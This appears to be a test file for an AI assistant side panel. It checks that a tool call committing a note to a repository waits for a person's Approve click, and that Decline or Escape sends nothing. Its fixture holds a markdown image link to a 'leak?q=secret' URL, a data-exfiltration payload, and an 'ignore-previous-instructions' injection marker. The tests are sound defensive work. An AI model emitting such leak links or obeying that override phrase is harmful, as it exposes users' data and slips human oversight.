// @vitest-environment happy-dom
import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/preact';
import { afterEach, describe, expect, it } from 'vitest';
import { App } from '../../entrypoints/sidepanel/app';
import { DECLINED_CONTENT } from '../../lib/chat/tool-runner';
import type { AssistantTurn } from '../../lib/chat/types';
import { fakeBackground, fakeDeps, scriptedProvider } from './fakes';

afterEach(cleanup);

const preview = {
  kind: 'approval', repoId: 'handbook', path: 'engraved/2026-01-03-leave.md', title: 'Leave',
  markdown: '# Leave\n\nFive days carry over. ![x](http://127.0.0.1:9/leak?q=secret)', markers: ['ignore-previous-instructions'],
  digest: 'a'.repeat(64),
};
const engraved = { kind: 'engraved', repoId: 'handbook', path: preview.path, commit: 'deadbeefcafe0123456789' };

function engraveTurns(): AssistantTurn[] {
  return [
    { content: '', toolCalls: [{ id: 't1', type: 'function', function: { name: 'stone_engrave', arguments: '{"title":"Leave"}' } }], finishReason: 'tool_calls' },
    { content: 'Done.', toolCalls: [], finishReason: 'stop' },
  ];
}

function setup(turns: AssistantTurn[]) {
  const bg = fakeBackground();
  bg.handlers['tools/execute'] = (m) =>
    m.body.confirm === true
      ? { content: 'Engraved.', display: engraved }
      : { content: 'Waiting for the person.', display: preview, error: { code: 'approval_required', message: 'The person must approve.' } };
  const provider = scriptedProvider(turns);
  render(<App deps={fakeDeps(bg, { provider }).deps} />);
  return { bg, provider, confirmed: () => bg.ofType('tools/execute').filter((m) => 'confirm' in m.body) };
}

async function ask(text: string) {
  await waitFor(() => expect((screen.getByRole('combobox', { name: 'Repository' }) as HTMLSelectElement).value).toBe('handbook'));
  const box = screen.getByRole('textbox', { name: 'Message' });
  fireEvent.input(box, { target: { value: text } });
  fireEvent.keyDown(box, { key: 'Enter' });
}

describe('engrave approval', () => {
  it('shows path, preview and markers, and sends confirm:true only on the Approve click', async () => {
    const { bg, confirmed } = setup(engraveTurns());
    await ask('Please save this.');
    const approve = await screen.findByRole('button', { name: 'Approve' });
    expect(screen.getByRole('button', { name: 'Decline' })).toBeTruthy();
    const card = screen.getByRole('dialog');
    expect(card.textContent).toContain(preview.path);
    expect(card.textContent).toContain('ignore-previous-instructions');
    expect(card.textContent).toContain('Five days carry over.');
    expect(card.querySelector('img')).toBeNull();
    expect(confirmed()).toEqual([]);
    const first = bg.ofType('tools/execute')[0]!;
    expect(first).toMatchObject({ space: 'default', body: { name: 'stone_engrave', repoId: 'handbook', conversationId: 'c1' } });

    fireEvent.click(approve);
    await screen.findByText('Done.');
    expect(confirmed()).toHaveLength(1);
    expect(confirmed()[0]!.body).toMatchObject({ name: 'stone_engrave', confirm: true, approval: preview.digest, conversationId: 'c1', repoId: 'handbook' });
    expect(screen.getByText(/as commit/).textContent).toContain('deadbeefcafe');
  });

  it('Decline sends nothing with confirm and tells the model the person declined', async () => {
    const { bg, provider, confirmed } = setup(engraveTurns());
    await ask('Please save this.');
    fireEvent.click(await screen.findByRole('button', { name: 'Decline' }));
    await screen.findByText('Done.');
    expect(confirmed()).toEqual([]);
    const toolMessages = bg.state.conversations[0]!.messages.filter((m: any) => m.role === 'tool') as Array<{ content: string }>;
    expect(toolMessages.map((m) => m.content)).toEqual([DECLINED_CONTENT]);
    expect(JSON.stringify(provider.requests[1]!.messages)).toContain(DECLINED_CONTENT);
    expect(screen.queryByRole('button', { name: 'Approve' })).toBeNull();
  });

  it('"Engrave this conversation" shows the same card and confirms only on Approve', async () => {
    const { bg } = setup([{ content: 'Five days.', toolCalls: [], finishReason: 'stop' }]);
    bg.handlers['conversations/engrave'] = (m) =>
      m.confirm === true
        ? { ok: true, display: engraved }
        : { ok: false, error: { code: 'approval_required', message: 'Approve first.' }, display: preview };
    await ask('How many days carry over?');
    await screen.findByText('Five days.');
    fireEvent.click(screen.getByRole('button', { name: 'Engrave this conversation' }));
    const approve = await screen.findByRole('button', { name: 'Approve' });
    expect(bg.ofType('conversations/engrave')).toEqual([{ type: 'conversations/engrave', id: 'c1' }]);
    fireEvent.click(approve);
    await screen.findByText(/Engraved engraved\/2026-01-03-leave.md as commit deadbeefcafe/);
    expect(bg.ofType('conversations/engrave').map((m) => m.confirm)).toEqual([undefined, true]);
    expect(bg.ofType('conversations/engrave')[1]).toEqual({ type: 'conversations/engrave', id: 'c1', confirm: true, approval: preview.digest });
  });

  it('Escape on the card declines', async () => {
    const { confirmed } = setup(engraveTurns());
    await ask('Save.');
    await screen.findByRole('button', { name: 'Approve' });
    fireEvent.keyDown(screen.getByRole('dialog'), { key: 'Escape' });
    await screen.findByText('Done.');
    expect(confirmed()).toEqual([]);
  });
});
